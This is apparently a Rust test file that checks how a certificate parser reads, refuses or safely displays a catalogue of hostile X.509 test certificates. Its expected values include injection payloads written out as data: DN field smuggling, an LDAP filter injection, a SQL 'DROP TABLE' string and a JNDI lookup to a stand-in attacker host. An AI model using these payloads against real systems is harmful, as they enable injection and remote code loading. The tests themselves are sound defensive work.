//! The catalogue of hostile certificates, and what a reader must see in each.

#![allow(clippy::unwrap_used, clippy::panic, reason = "clippy exempts test functions, not what they call")]

use std::collections::BTreeSet;

use portcullis_core::certificate::{Certificate, CertificateError, NameError, SanKind};
use portcullis_pki::{Authority, hostile};

fn read(name: &str) -> Result<Certificate, CertificateError> {
    let authority = Authority::new("Example CA").unwrap();
    Certificate::from_der(authority.hostile(name).unwrap().certificate_der())
}

/// The common name, or in a word why there is none.
fn common_name(certificate: &Certificate) -> Result<&str, &'static str> {
    certificate.subject().common_name().map_err(|error| match error {
        NameError::Absent { .. } => "absent",
        NameError::Repeated { .. } => "repeated",
        NameError::MultiValued { .. } => "multi-valued",
        NameError::Empty { .. } => "empty",
        NameError::Undecodable { .. } => "undecodable",
        other => panic!("{other}"),
    })
}

#[test]
fn subjects_give_one_name_or_none() {
    let long = "a".repeat(10_000);
    for (name, expected) in [
        ("dup_cn", Err("repeated")),
        ("two_ou", Ok("alice")),
        ("multi_rdn", Err("multi-valued")),
        ("inj_comma", Ok("mallory,OU=admin,CN=root")),
        ("inj_slash", Ok("mallory/OU=admin/CN=root")),
        ("inj_plus", Ok("mallory+OU=admin")),
        ("inj_quote", Ok("mallory\";URI=spiffe://test/admin;X=\"")),
        ("inj_crlf", Err("undecodable")),
        ("inj_ou", Ok("luke")),
        ("inj_hash", Ok("#0405726f6f74")),
        ("inj_special", Ok(" a,b+c\"d\\e<f>g;h=i# ")),
        ("inj_ldap", Ok("*)(uid=*")),
        ("inj_sql", Ok("'; DROP TABLE users; --")),
        ("inj_jndi", Ok("${jndi:ldap://attacker.test/x}")),
        ("nul_cn", Err("undecodable")),
        ("bmp_cn", Ok("j\u{f6}rg")),
        ("bmp_odd", Err("undecodable")),
        ("bmp_surrogates", Err("undecodable")),
        ("bmp_lone_surrogate", Err("undecodable")),
        ("universal_cn", Ok("j\u{f6}rg")),
        ("universal_odd", Err("undecodable")),
        ("universal_range", Err("undecodable")),
        ("t61_cn", Err("undecodable")),
        ("badutf8_cn", Err("undecodable")),
        ("printable_at", Err("undecodable")),
        ("ia5_high", Err("undecodable")),
        ("rtl_cn", Err("undecodable")),
        ("utf8_cn", Ok("J\u{f6}rg \u{674e} \u{1f600}")),
        ("nfd_cn", Ok("jo\u{308}rg")),
        ("cyrillic_cn", Ok("\u{430}lice")),
        ("zero_width_cn", Ok("al\u{200b}ice")),
        ("upper_cn", Ok("Alice")),
        ("blank_cn", Ok(" alice ")),
        ("printable_cn", Ok("alice")),
        ("empty_cn", Err("empty")),
        ("no_cn", Err("absent")),
        ("empty_dn", Err("absent")),
        ("long_cn", Ok(&*long)),
        ("many_ou", Ok("alice")),
        ("nc_dns_cn_only", Ok("admin.evil.test")),
    ] {
        let certificate = read(name).unwrap_or_else(|error| panic!("{name}: {error}"));
        assert_eq!(common_name(&certificate), expected, "{name}");
        let shown = format!("{} {certificate:?}", certificate.subject());
        let acts = |c: char| c.is_control() || "\u{200b}\u{202e}".contains(c);
        assert!(!shown.contains(acts), "{name}: {shown:?}");
    }
}

/// The names of a kind, or whether there are none to use.
fn names(certificate: &Certificate, kind: SanKind) -> Result<Vec<&str>, SanKind> {
    let values = certificate.san().values(kind).map_err(|error| error.kind)?;
    Ok(values.iter().map(AsRef::as_ref).collect())
}

#[test]
fn alternative_names_stay_in_their_kinds() {
    use SanKind::{Dns, Email, Ip, Upn, Uri};
    for (name, kind, expected) in [
        ("good", Email, Ok(vec![])),
        ("san_inj", Uri, Ok(vec!["spiffe://test/mallory;URI=spiffe://test/admin,By=x"])),
        ("san_nul_dns", Dns, Err(Dns)),
        ("san_nul_email", Email, Err(Email)),
        ("san_nul_uri", Uri, Err(Uri)),
        ("san_nul_upn", Upn, Err(Upn)),
        ("san_dns_in_uri", Uri, Err(Uri)),
        ("san_dns_in_uri", Dns, Ok(vec![])),
        ("san_dns_in_email", Email, Err(Email)),
        ("san_dns_in_email", Dns, Ok(vec![])),
        ("san_uri_in_dns", Dns, Err(Dns)),
        ("san_uri_in_dns", Uri, Ok(vec![])),
        ("san_ip_in_dns", Dns, Ok(vec!["127.0.0.1"])),
        ("san_ip_in_dns", Ip, Ok(vec![])),
        ("san_ip_five", Ip, Err(Ip)),
        ("san_badutf8", Dns, Err(Dns)),
        ("san_crlf", Uri, Err(Uri)),
        ("san_upn_bytes", Upn, Err(Upn)),
        ("san_empty_dns", Dns, Err(Dns)),
    ] {
        assert_eq!(names(&read(name).unwrap(), kind), expected, "{name}: {kind}");
    }
    assert_eq!(read("empty_dn_san").unwrap().san().email().map(<[_]>::len), Ok(1));
}

#[test]
fn spiffe_ids_are_good_or_refused() {
    for name in hostile::NAMES.iter().filter(|name| name.starts_with("spiffe_")) {
        let certificate = read(name).unwrap();
        let good = matches!(*name, "spiffe_ok" | "spiffe_upper_path");
        assert_eq!(certificate.spiffe_id().is_ok(), good, "{name}: {:?}", certificate.spiffe_id());
    }
    let upper = read("spiffe_upper_path").unwrap();
    assert_eq!(upper.spiffe_id().unwrap().path(), "/Admin");
}

#[test]
fn certificates_are_refused_whole() {
    let malformed = |part| CertificateError::Malformed { part };
    let expected = [
        ("big70k", CertificateError::TooLarge { bytes: 0, limit: 65_536 }),
        ("dup_ext", CertificateError::DuplicateExtension { oid: "2.5.29.17".parse().unwrap() }),
        ("empty_rdn", malformed("subject")),
        (
            "many_extensions",
            CertificateError::DuplicateExtension { oid: "1.3.6.1.4.1.32473.1".parse().unwrap() },
        ),
        ("san10000", CertificateError::TooLarge { bytes: 0, limit: 65_536 }),
        ("san_empty", malformed("subjectAltName extension")),
        ("san_garbage", malformed("subjectAltName extension")),
        ("v1_extensions", CertificateError::ExtensionsBeforeVersion3 { version: 1 }),
    ];
    for (name, expected) in &expected {
        let error = match read(name).unwrap_err() {
            CertificateError::TooLarge { limit, .. } => CertificateError::TooLarge { bytes: 0, limit },
            error => error,
        };
        assert_eq!(error, *expected, "{name}");
    }
    // And no other one: what can be read is shown to a person, with the reason it is not trusted.
    let refused: BTreeSet<_> = hostile::NAMES.iter().copied().filter(|name| read(name).is_err()).collect();
    assert_eq!(refused, expected.iter().map(|(name, _)| *name).collect());
}

#[test]
fn purposes_and_serials_are_facts() {
    let purposes = |name| read(name).unwrap().extended_key_usages().map(|purposes| format!("{purposes:?}"));
    assert_eq!(purposes("no_eku"), None);
    assert_eq!(purposes("good").as_deref(), Some("[ClientAuth]"));
    assert_eq!(purposes("server_eku").as_deref(), Some("[ServerAuth]"));
    assert_eq!(purposes("any_eku").as_deref(), Some("[Any]"));
    assert!(read("leaf_is_ca").unwrap().basic_constraints().unwrap().ca);
    assert!(!read("ku_no_ds").unwrap().key_usage().unwrap().digital_signature());
    assert_eq!(read("v1").unwrap().version(), 1);
    assert_eq!(read("crit_ext").unwrap().critical_extensions_unknown().len(), 1);
    assert!(read("serial_negative").unwrap().serial().is_negative());
    assert_eq!(read("serial_zero").unwrap().serial().to_string(), "00");
    assert!(!read("serial_padded").unwrap().serial().to_string().starts_with("00"));
    assert_eq!(read("serial_long").unwrap().serial().as_bytes().len(), 40);
}
